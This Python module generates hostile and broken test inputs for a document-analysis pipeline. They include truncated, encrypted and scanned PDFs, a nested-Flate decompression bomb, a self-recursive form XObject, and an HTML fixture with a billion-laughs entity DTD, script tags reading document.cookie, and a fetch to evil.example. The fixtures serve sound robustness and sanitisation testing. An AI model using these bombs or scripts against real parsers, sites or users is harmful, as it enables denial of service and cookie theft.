"""Generate the hostile and broken inputs of ../shared/QUALITY.md offline (reportlab, pikepdf, zlib).

Every generator returns bytes so a test can write them under any name. Nothing here reads the
network; sizes are kept small except where the point of the input is its size after decoding.
"""

from __future__ import annotations

import io
import random
import re
import zlib
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
SEED_TEXT = REPO / "corpus" / "msi_integrity_rethinking_msis_blog_series.txt"
IOM_TEXT = REPO / "corpus" / "iom_crest_final_evaluation_brief.txt"


def seed_paragraphs() -> list[str]:
    """Body paragraphs of the sample blog series: real evidence text that yields candidates."""
    text = SEED_TEXT.read_text(encoding="utf-8")
    return [p.strip() for p in re.split(r"\n\s*\n", text) if len(p.split()) >= 25]


def evidence_text(index: int, n_paragraphs: int = 4) -> str:
    """A short report made of real evidence paragraphs; ``index`` picks a different slice."""
    paras = seed_paragraphs()
    start = (index * n_paragraphs) % max(1, len(paras) - n_paragraphs)
    body = "\n\n".join(paras[start:start + n_paragraphs])
    return f"Field report {index}\n\n{body}\n"


# -- PDFs -------------------------------------------------------------------------------------


def text_pdf(paragraphs: list[str], title: str = "Test report") -> bytes:
    """A simple one-column text PDF (reportlab platypus)."""
    from xml.sax.saxutils import escape

    from reportlab.lib.pagesizes import A4
    from reportlab.lib.styles import getSampleStyleSheet
    from reportlab.platypus import Paragraph, SimpleDocTemplate

    buf = io.BytesIO()
    styles = getSampleStyleSheet()
    doc = SimpleDocTemplate(buf, pagesize=A4, title=title)
    story = [Paragraph(escape(title), styles["Title"])]
    story += [Paragraph(escape(p), styles["BodyText"]) for p in paragraphs]
    doc.build(story)
    return buf.getvalue()


def truncated_pdf() -> bytes:
    """The first 40% of a valid PDF: no xref, no trailer, objects cut mid-stream."""
    data = text_pdf(seed_paragraphs()[:6])
    return data[: int(len(data) * 0.4)]


def random_after_header(seed: int = 7, size: int = 20_000) -> bytes:
    rng = random.Random(seed)
    return b"%PDF-1.7\n" + bytes(rng.getrandbits(8) for _ in range(size))


def encrypted_pdf(user_password: str = "secret") -> bytes:
    import pikepdf

    src = pikepdf.open(io.BytesIO(text_pdf(seed_paragraphs()[:2])))
    out = io.BytesIO()
    src.save(out, encryption=pikepdf.Encryption(user=user_password, owner="owner-pw", R=6))
    return out.getvalue()


def no_extract_pdf() -> bytes:
    """Opens without a password, but the owner's permissions forbid text extraction."""
    import pikepdf

    src = pikepdf.open(io.BytesIO(text_pdf(seed_paragraphs()[2:4])))
    out = io.BytesIO()
    allow = pikepdf.Permissions(extract=False, accessibility=False, modify_other=False)
    src.save(out, encryption=pikepdf.Encryption(user="", owner="owner-pw", R=6, allow=allow))
    return out.getvalue()


def scanned_pdf() -> bytes:
    """One page that is only a raster image of text: no text layer."""
    from PIL import Image, ImageDraw
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    image = Image.new("L", (600, 300), 255)
    draw = ImageDraw.Draw(image)
    for row in range(8):
        draw.text((20, 20 + 30 * row), "Scanned page: the Kimberley Process audit text", fill=0)
    buf = io.BytesIO()
    c = canvas.Canvas(buf)
    c.drawImage(ImageReader(image), 50, 400, width=500, height=250)
    c.showPage()
    c.save()
    return buf.getvalue()


def _minimal_pdf(content_streams: list, resources=None, n_pages: int = 1):
    """A pikepdf Pdf with pages whose content is ``content_streams[i]`` (bytes or Stream)."""
    import pikepdf

    pdf = pikepdf.new()
    font = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica))
    res = resources if resources is not None else pikepdf.Dictionary(
        Font=pikepdf.Dictionary(F1=font))
    for content in content_streams:
        stream = content if isinstance(content, pikepdf.Stream) else pikepdf.Stream(pdf, content)
        page = pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842],
                                  Contents=stream, Resources=res)
        pdf.pages.append(pikepdf.Page(page))
    return pdf, font


def _save(pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()


def _text_ops(line: str, y: int = 780) -> bytes:
    safe = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    return f"BT /F1 11 Tf 50 {y} Td ({safe}) Tj ET\n".encode("latin-1", errors="replace")


def _deflate_repeated(chunk: bytes, times: int) -> bytes:
    """A zlib stream that inflates to ``chunk * times``, built without compressing it all:
    a full flush makes each compressed copy of ``chunk`` independent of what came before."""
    header = b"\x78\xda"  # zlib header: deflate, 32 KB window, maximum compression
    again = zlib.compressobj(9)
    again.compress(chunk)
    again.flush(zlib.Z_FULL_FLUSH)
    block = again.compress(chunk) + again.flush(zlib.Z_FULL_FLUSH)
    adler = 1
    for _ in range(times):
        adler = zlib.adler32(chunk, adler)
    return header + block * times + b"\x03\x00" + adler.to_bytes(4, "big")


def decompression_bomb(decoded_mb: int = 1024) -> bytes:
    """A page whose content stream is Flate inside Flate: a few KB on disk, ``decoded_mb`` MB
    once decoded."""
    import pikepdf

    once = _deflate_repeated(b" " * (1 << 20), decoded_mb)
    twice = zlib.compress(once, 9)
    pdf, _ = _minimal_pdf([b""])
    stream = pikepdf.Stream(pdf, twice)
    stream.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
    pdf.pages[0].obj.Contents = stream
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def blank_pages_pdf(n_pages: int = 3000) -> bytes:
    """One page of text followed by thousands of blank pages."""
    first = b"".join(_text_ops(p[:90], 780 - 14 * i) for i, p in enumerate(seed_paragraphs()[:5]))
    pdf, _ = _minimal_pdf([first] + [b""] * (n_pages - 1))
    return _save(pdf)


def many_text_ops_pdf(n_ops: int = 1_000_000) -> bytes:
    """One page with ``n_ops`` text-showing operations on a dense grid (distinct positions, so
    the extractor cannot merge them): seconds of work for pdfium per 100,000 operations."""
    import pikepdf

    row = b"".join(b"(%d) Tj 1.4 0 Td " % (i % 10) for i in range(400)) + b"-560 -0.05 Td "
    body = b"BT /F1 1 Tf 20 830 Td " + row * (n_ops // 400) + b"ET\n"
    pdf, _ = _minimal_pdf([b""])
    stream = pikepdf.Stream(pdf, zlib.compress(body))
    stream.Filter = pikepdf.Name.FlateDecode
    pdf.pages[0].obj.Contents = stream
    out = io.BytesIO()
    pdf.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def self_referencing_xobject_pdf() -> bytes:
    """A page with real text and a Form XObject that draws itself (infinite recursion)."""
    import pikepdf

    pdf, font = _minimal_pdf([b""])
    form = pikepdf.Stream(pdf, b"q /X1 Do Q\n")
    form.Type = pikepdf.Name.XObject
    form.Subtype = pikepdf.Name.Form
    form.BBox = [0, 0, 100, 100]
    form = pdf.make_indirect(form)
    form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X1=form))
    page = pdf.pages[0].obj
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font),
                                        XObject=pikepdf.Dictionary(X1=form))
    text = b"".join(_text_ops(s, 780 - 14 * i) for i, s in enumerate(
        ["Self-referencing form test page.", "The Kimberley Process certification scheme",
         "was reviewed by civil society observers."]))
    page.Contents = pikepdf.Stream(pdf, text + b"q /X1 Do Q\n")
    return _save(pdf)


def cid_font_pdf() -> bytes:
    """Text shown with a Type0 (Identity-H) font that has no ToUnicode map and no embedded font
    program: extractors can only report glyph ids, e.g. ``(cid:123)``."""
    import pikepdf

    pdf = pikepdf.new()
    descendant = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Font, Subtype=pikepdf.Name.CIDFontType2,
        BaseFont=pikepdf.Name("/NoMapFont"),
        CIDSystemInfo=pikepdf.Dictionary(Registry=pikepdf.String("Adobe"),
                                         Ordering=pikepdf.String("Identity"), Supplement=0),
        FontDescriptor=pdf.make_indirect(pikepdf.Dictionary(
            Type=pikepdf.Name.FontDescriptor, FontName=pikepdf.Name("/NoMapFont"), Flags=4,
            FontBBox=[0, -200, 1000, 900], ItalicAngle=0, Ascent=800, Descent=-200,
            CapHeight=700, StemV=80)),
        DW=500))
    font = pdf.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type0, BaseFont=pikepdf.Name("/NoMapFont"),
        Encoding=pikepdf.Name("/Identity-H"), DescendantFonts=[descendant]))
    rng = random.Random(3)
    lines = []
    for row in range(30):
        glyphs = "".join(f"{rng.randrange(3, 900):04X}" for _ in range(40))
        lines.append(f"BT /F1 10 Tf 40 {800 - 20 * row} Td <{glyphs}> Tj ET\n".encode())
    resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page = pikepdf.Dictionary(Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842],
                              Contents=pikepdf.Stream(pdf, b"".join(lines)), Resources=resources)
    pdf.pages.append(pikepdf.Page(page))
    return _save(pdf)


# -- HTML and text ------------------------------------------------------------------------------

HOSTILE_HTML_MARKER = "SCRIPT-BODY-MUST-NOT-APPEAR"


def hostile_html() -> bytes:
    """Scripts, a billion-laughs style entity DTD, and a charset declaration that lies."""
    laughs = "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i else "lol"}">' for i in range(9))
    body = "".join(f"<p>{p}</p>" for p in seed_paragraphs()[4:7])
    html = (
        f'<!DOCTYPE html [{laughs}]>\n<html><head><meta charset="utf-16">'
        f"<title>Caf\u00e9 report on MSIs</title>"
        f"<script>var x = '{HOSTILE_HTML_MARKER}'; alert(document.cookie)</script></head>"
        f"<body onload=\"alert(1)\"><h1>Field notes from S\u00e3o Paulo</h1>{body}"
        f"<p>&lol8; &lol8; &lol8;</p><script>fetch('http://evil.example/{HOSTILE_HTML_MARKER}')"
        f"</script><style>body {{ background: url(javascript:{HOSTILE_HTML_MARKER}) }}</style>"
        f"</body></html>"
    )
    return html.encode("latin-1", errors="replace")


def latin1_text() -> bytes:
    text = ("Caf\u00e9 workers in S\u00e3o Paulo and the Kimberley Process\n\n"
            + "\n\n".join(seed_paragraphs()[7:9]) + "\n\nR\u00e9sum\u00e9: na\u00efve co\u00f6peration.\n")
    return text.encode("latin-1", errors="replace")


def utf16_text() -> bytes:
    text = "UTF-16 report \u2014 \u00c9valuation\n\n" + "\n\n".join(seed_paragraphs()[9:11]) + "\n"
    return text.encode("utf-16")  # Python writes the BOM


def nul_text() -> bytes:
    paras = seed_paragraphs()[11:13]
    return ("NUL report\n\n" + paras[0] + "\n\n").encode() + b"\x00\x00in\x00the\x00middle\x00" + (
        "\n\n" + paras[1] + "\n").encode()


# -- documents that yield evidence ------------------------------------------------------------


def evidence_paragraphs() -> list[str]:
    """Seed paragraphs that on their own yield at least one candidate with the hashing encoder."""
    global _EVIDENCE
    if _EVIDENCE is None:
        from pipeline.embed import make_encoder
        from pipeline.records import Document, Page
        from pipeline.rules.framework import load_framework
        from pipeline.rules.registry import load_registry
        from pipeline.run.process import ProcessingContext, analyse_document

        context = ProcessingContext(framework=load_framework(), registry=load_registry(),
                                    encoder=make_encoder("hashing"))
        _EVIDENCE = []
        for i, para in enumerate(seed_paragraphs()):
            doc = Document(f"probe{i}", f"/probe/{i}.txt", "text", "probe", (Page(1, para),))
            if analyse_document(doc, context).candidates:
                _EVIDENCE.append(para)
        context.close()
    return _EVIDENCE


_EVIDENCE: list[str] | None = None


def evidence_doc(index: int) -> str:
    """A small report with at least one evidence paragraph; different ``index``, different text."""
    paras = seed_paragraphs()
    hits = evidence_paragraphs()
    filler = paras[(3 * index) % len(paras)]
    return f"Field report number {index}\n\n{hits[index % len(hits)]}\n\n{filler}\n"
